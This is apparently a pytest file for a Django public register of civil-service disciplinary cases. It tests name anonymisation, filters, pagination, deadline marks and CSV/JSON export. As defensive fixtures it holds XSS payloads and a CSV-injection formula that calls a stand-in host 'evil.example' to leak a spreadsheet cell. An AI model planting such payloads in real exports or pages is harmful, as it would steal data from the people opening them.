"""The public register: anonymised, filterable, polite about bad input, never a server error."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from django.urls import reverse

from tegak.portal.models import PortalPolicy

pytestmark = pytest.mark.django_db


def get(client, name, **params):
    return client.get(reverse(name), params)


def test_register_lists_cases_without_any_reporter_or_hidden_name(
    client, make_entry, units, employee
):
    make_entry(
        unit=units["health"],
        employee=employee,
        status="final",
        level="ringan",
        sanction="teguran_lisan",
        decided_on=date(2025, 4, 1),
        final_on=date(2025, 5, 1),
    )
    body = get(client, "portal:register").content.decode()
    assert "DK/0001/2025" in body
    assert "Dinas Kesehatan" in body
    assert "PP 94/2021 Pasal 4 huruf f" in body
    # No policy row: the name stays hidden even for a final decision.
    assert "Budi Santoso" not in body
    assert "tidak dipublikasikan" in body


def test_name_is_shown_only_for_final_decisions_where_the_agency_allows_it(
    client, make_entry, instansi, employee
):
    PortalPolicy.objects.create(instansi=instansi, show_accused_name_when_final=True)
    make_entry(register_number="OPEN/1", employee=employee, status="decided")
    body = get(client, "portal:register").content.decode()
    assert "OPEN/1" in body and "Budi Santoso" not in body
    make_entry(register_number="FINAL/1", employee=employee, status="final")
    body = get(client, "portal:register").content.decode()
    assert body.count("Budi Santoso") == 1


def test_policy_switched_off_hides_the_name_again(client, make_entry, instansi, employee):
    policy = PortalPolicy.objects.create(instansi=instansi, show_accused_name_when_final=True)
    make_entry(employee=employee, status="final")
    assert "Budi Santoso" in get(client, "portal:register").content.decode()
    policy.show_accused_name_when_final = False
    policy.save()
    assert "Budi Santoso" not in get(client, "portal:register").content.decode()


def test_filters_narrow_the_register(client, make_entry, units):
    make_entry(
        register_number="A/1", unit=units["health"], level="berat", opened_on=date(2024, 6, 1)
    )
    make_entry(
        register_number="B/1", unit=units["roads"], level="ringan", provision="pp-94-2021:5:a"
    )
    body = get(client, "portal:register", unit=units["roads"].pk).content.decode()
    assert "B/1" in body and "A/1" not in body
    body = get(client, "portal:register", level="berat").content.decode()
    assert "A/1" in body and "B/1" not in body
    body = get(client, "portal:register", year=2024).content.decode()
    assert "A/1" in body and "B/1" not in body
    body = get(client, "portal:register", provision="pp-94-2021:5:a").content.decode()
    assert "B/1" in body and "A/1" not in body
    body = get(client, "portal:register", q="a/").content.decode()
    assert "A/1" in body and "B/1" not in body


@pytest.mark.parametrize(
    "params",
    [
        {"level": "sangat-berat"},
        {"unit": "abc"},
        {"unit": "999999999999999999999"},
        {"year": "20x5"},
        {"provision": "<script>alert(1)</script>"},
        {"status": "semua"},
        {"instansi": "tidak-ada"},
        {"q": "x" * 500},
    ],
    ids=[
        "level",
        "unit-text",
        "unit-huge",
        "year",
        "provision-markup",
        "status",
        "instansi",
        "q-long",
    ],
)
def test_malformed_filters_get_a_polite_message_and_the_rest_still_works(
    client, make_entry, params
):
    make_entry(register_number="A/1")
    response = get(client, "portal:register", **params)
    assert response.status_code == 200
    body = response.content.decode()
    assert "tidak dapat dipakai" in body
    assert "<script>alert(1)</script>" not in body
    assert "A/1" in body  # the bad filter is left out, the register still shows


def test_a_search_for_markup_is_escaped(client, make_entry):
    make_entry()
    body = get(client, "portal:register", q='"><img src=x onerror=alert(1)>').content.decode()
    assert "<img src=x" not in body
    assert "&lt;img src=x" in body or "&quot;&gt;&lt;img" in body


@pytest.mark.parametrize("page", ["99", "0", "-3"])
def test_a_page_past_the_end_is_a_polite_page(client, make_entry, page):
    make_entry()
    response = get(client, "portal:register", page=page)
    assert response.status_code == 200
    body = response.content.decode()
    assert "Halaman itu tidak ada" in body
    assert "1 halaman" in body


def test_an_unreadable_page_number_shows_the_first_page(client, make_entry):
    make_entry(register_number="A/1")
    body = get(client, "portal:register", page="dua").content.decode()
    assert "A/1" in body and "tidak dipahami" in body


def test_pagination_walks_the_register(client, make_entry):
    for day in range(1, 31):
        make_entry(register_number=f"R/{day:02d}", opened_on=date(2025, 1, day))
    first = get(client, "portal:register").content.decode()
    assert "R/30" in first and "R/05" not in first and "Halaman 1 dari 2" in first
    second = get(client, "portal:register", page=2).content.decode()
    assert "R/05" in second and "R/30" not in second


def test_deadlines_say_whether_they_were_kept(client, make_entry):
    make_entry(
        deadlines=[
            {"name": "delivery_latest", "due": "2025-03-10", "met_on": "2025-03-09"},
            {"name": "second_summons_latest", "due": "2025-03-05", "met_on": "2025-03-07"},
            {"name": "examination_latest", "due": "2020-01-01", "met_on": None},
            {"name": "objection_due", "due": "2025-03-28", "met_on": "2025-04-20"},
            {"name": "takes_effect", "due": "2025-03-25", "met_on": "2025-04-20"},
        ]
    )
    body = get(client, "portal:register").content.decode()
    assert '<li data-mark="kept"><span class="kept">tepat waktu</span>' in body
    assert '<li data-mark="late"><span class="missed">terlambat</span>' in body
    assert '<li data-mark="overdue"><span class="missed">' in body
    # The objection window is the accused's right and the effective day a date set by law: the
    # office is neither on time nor late on them.
    assert body.count('<li data-mark="">') == 2


def test_english_register(client, make_entry):
    make_entry()
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    body = get(client, "portal:register").content.decode()
    assert "Public register of cases" in body and "not published" in body


class TestExport:
    def test_json_has_the_schema_and_no_reporter_or_hidden_name(
        self, client, make_entry, units, employee
    ):
        make_entry(
            unit=units["health"],
            employee=employee,
            status="final",
            days_to_decision=12,
            decided_on=date(2025, 3, 13),
        )
        response = get(client, "portal:export", format="json")
        assert response.status_code == 200
        data = json.loads(b"".join(response.streaming_content))
        assert data["schema"] == "tegak-register/1"
        assert list(data["records"][0]) == data["fields"]
        record = data["records"][0]
        assert record["unit"] == "Dinas Kesehatan"
        assert record["accused_name"] is None
        assert record["decided_on"] == "2025-03-13"
        assert "Budi" not in json.dumps(data)

    def test_csv_streams_every_row_with_a_header(self, client, make_entry):
        for number in range(3):
            make_entry(register_number=f"C/{number}")
        response = get(client, "portal:export", format="csv")
        assert response["Content-Type"].startswith("text/csv")
        lines = b"".join(response.streaming_content).decode().splitlines()
        assert lines[0].startswith("register_number,instansi,unit,provision")
        assert len(lines) == 4

    def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(self, client, make_entry, units):
        """Found by the 2026-12-07 attack: a unit named with a formula reached the public CSV,
        and a spreadsheet opening it would run it (CSV injection)."""
        unit = units["health"]
        unit.name = '=HYPERLINK("http://evil.example/?leak="&A1,"Dinas")'
        unit.save()
        make_entry(unit=unit)
        response = get(client, "portal:export", format="csv")
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert rows[0]["unit"] == "'" + unit.name
        data = json.loads(b"".join(get(client, "portal:export").streaming_content))
        assert data["records"][0]["unit"] == unit.name  # JSON keeps the text as it is

    def test_export_applies_filters(self, client, make_entry):
        make_entry(register_number="A/1", level="berat")
        make_entry(register_number="B/1", level="ringan")
        data = json.loads(b"".join(get(client, "portal:export", level="berat").streaming_content))
        assert [record["register_number"] for record in data["records"]] == ["A/1"]

    @pytest.mark.parametrize(
        ("params", "field"), [({"format": "xml"}, "format"), ({"year": "abc"}, "year")]
    )
    def test_bad_export_input_is_a_plain_400(self, client, params, field):
        response = get(client, "portal:export", **params)
        assert response.status_code == 400
        assert response.json()["error"]["field"] == field
